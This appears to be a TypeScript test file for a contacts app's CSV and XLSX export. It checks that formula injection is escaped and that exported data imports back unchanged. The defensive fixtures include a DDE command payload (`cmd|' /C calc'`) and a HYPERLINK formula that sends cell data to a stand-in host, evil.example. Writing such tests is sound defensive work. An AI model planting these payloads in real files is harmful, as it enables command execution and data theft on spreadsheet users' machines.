import t from 'tap'
import { parse } from 'csv-parse/sync'
import { readSheet } from 'read-excel-file/node'
import { assertError } from '@sapa/sdk/testing'
import { escapeCell } from '../server/export.ts'
import { contactsKernel, importFile, ok } from './support/kernel.ts'

t.test('escapeCell: =, +, -, @, tab and CR first get a leading apostrophe', async (t) => {
  for (const c of ['=', '+', '-', '@', '\t', '\r']) t.equal(escapeCell(`${c}cmd|' /C calc'!A0`), `'${c}cmd|' /C calc'!A0`, JSON.stringify(c))
  t.equal(escapeCell("'=quoted"), "''=quoted", 'a leading apostrophe is doubled, so the import restores it')
  for (const v of ['plain', ' =leading space', '', '0812', "it's"]) t.equal(escapeCell(v), v, JSON.stringify(v))
})

t.test('export: CSV and XLSX, filters, formula injection escaped, round trip through import', async (t) => {
  const { h, tenant, manager } = await contactsKernel(t)
  const agent = await h.login(tenant, 'agent')
  const lead = await h.login(tenant, 'team_lead')
  await ok(manager, 'POST', '/api/contacts/attributes', { key: 'city', label: 'City', type: 'text' })
  await ok(manager, 'POST', '/api/contacts/attributes', { key: 'spend', label: 'Spend', type: 'number' })
  const vip = await ok(manager, 'POST', '/api/contacts/labels', { name: 'VIP' })
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
  await ok(manager, 'POST', '/api/contacts', { name: evil, phone: '0812 0000 0001', email: 'a@b.co', labelIds: [vip.id], attributes: { city: '@SUM(1+1)', spend: -5 } })
  await ok(manager, 'POST', '/api/contacts', { name: '-2+3', phone: '0812 0000 0002', attributes: { city: '\tTab' } })
  await ok(manager, 'POST', '/api/contacts', { name: 'constructor', phone: '0812 0000 0003', attributes: { city: '+Plus' } })
  await ok(manager, 'POST', '/api/contacts', { name: 'Plain "quoted", name', phone: '0812 0000 0004', optedOut: true, attributes: { city: "'=already" } })

  assertError(t, await agent.inject({ method: 'GET', url: '/api/contacts/export' }), 403, 'forbidden', 'agents do not export')
  const res = await lead.inject({ method: 'GET', url: '/api/contacts/export?format=csv' })
  t.equal(res.statusCode, 200)
  t.match(res.headers['content-type'], /^text\/csv/)
  t.match(res.headers['content-disposition'], /^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/)
  t.ok(res.body.startsWith('\ufeff'), 'BOM for Excel')
  const rows = parse(res.body, { bom: true, columns: true }) as Record<string, string>[]
  t.equal(rows.length, 4)
  t.same(Object.keys(rows[0]), ['id', 'name', 'phone', 'email', 'labels', 'opted_out', 'opted_out_at', 'last_contacted_at', 'created_at', 'updated_at', 'attributes.city', 'attributes.spend'])
  const byPhone = Object.fromEntries(rows.map((r) => [r.phone, r]))
  const first = byPhone["'+6281200000001"]
  t.ok(first, 'phones start with + and are escaped too')
  t.equal(first.name, `'${evil}`, 'a formula name comes out with a leading apostrophe')
  t.equal(first['attributes.city'], "'@SUM(1+1)")
  t.equal(first['attributes.spend'], '-5', 'numbers are numbers, not text to escape')
  t.equal(first.labels, 'VIP')
  t.equal(byPhone["'+6281200000002"].name, "'-2+3")
  t.equal(byPhone["'+6281200000002"]['attributes.city'], 'Tab', 'text values are trimmed when stored')
  t.equal(byPhone["'+6281200000003"]['attributes.city'], "'+Plus")
  t.equal(byPhone["'+6281200000004"].name, 'Plain "quoted", name', 'CSV quoting intact')
  t.equal(byPhone["'+6281200000004"].opted_out, 'true')

  // Filters apply to the export.
  const only = async (qs: string) => (parse((await lead.inject({ method: 'GET', url: `/api/contacts/export?${qs}` })).body, { bom: true, columns: true }) as any[]).map((r) => r.phone).sort()
  t.same(await only(`label=${vip.id}`), ["'+6281200000001"])
  t.same(await only('optedOut=true'), ["'+6281200000004"])
  t.same(await only('q=0812 0000 0002'), ["'+6281200000002"])

  // XLSX: the same cells, readable by a spreadsheet reader, names like "constructor" included.
  const x = await lead.inject({ method: 'GET', url: '/api/contacts/export?format=xlsx' })
  t.equal(x.statusCode, 200)
  t.equal(x.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
  const sheet = (await readSheet(x.rawPayload)) as unknown[][]
  t.equal(sheet.length, 5)
  t.same(sheet[0].slice(0, 4), ['id', 'name', 'phone', 'email'])
  const xrows = Object.fromEntries(sheet.slice(1).map((r) => [r[2], r]))
  t.equal(xrows["'+6281200000001"][1], `'${evil}`)
  t.equal(xrows["'+6281200000001"][11], -5)
  t.equal(xrows["'+6281200000003"][1], 'constructor')
  t.equal(xrows["'+6281200000004"][5], true)

  // Round trip: the export imports into another workspace unchanged (the apostrophes come off).
  const other = await h.createTenant()
  const otherManager = await h.login(other, 'manager')
  await ok(otherManager, 'POST', '/api/contacts/attributes', { key: 'city', label: 'City', type: 'text' })
  await ok(otherManager, 'POST', '/api/contacts/attributes', { key: 'spend', label: 'Spend', type: 'number' })
  for (const [file, filename] of [[Buffer.from(res.body), 'export.csv'], [x.rawPayload, 'export.xlsx']] as const) {
    const done = await importFile(otherManager, { data: file, filename })
    t.match(done, { status: 'completed', processed: 4, errorCount: 0 }, filename)
    const imported = (await ok(otherManager, 'GET', '/api/contacts?q=0812 0000 0001')).items[0]
    t.match(imported, { name: evil, phone: '+6281200000001', email: 'a@b.co', attributes: { city: '@SUM(1+1)', spend: -5 } }, `${filename}: values back as they were`)
    t.same(imported.labels.map((l: any) => l.name), ['VIP'])
    t.equal((await ok(otherManager, 'GET', '/api/contacts?q=0812 0000 0004')).items[0].attributes.city, "'=already", `${filename}: a value starting with ' survives`)
  }
})
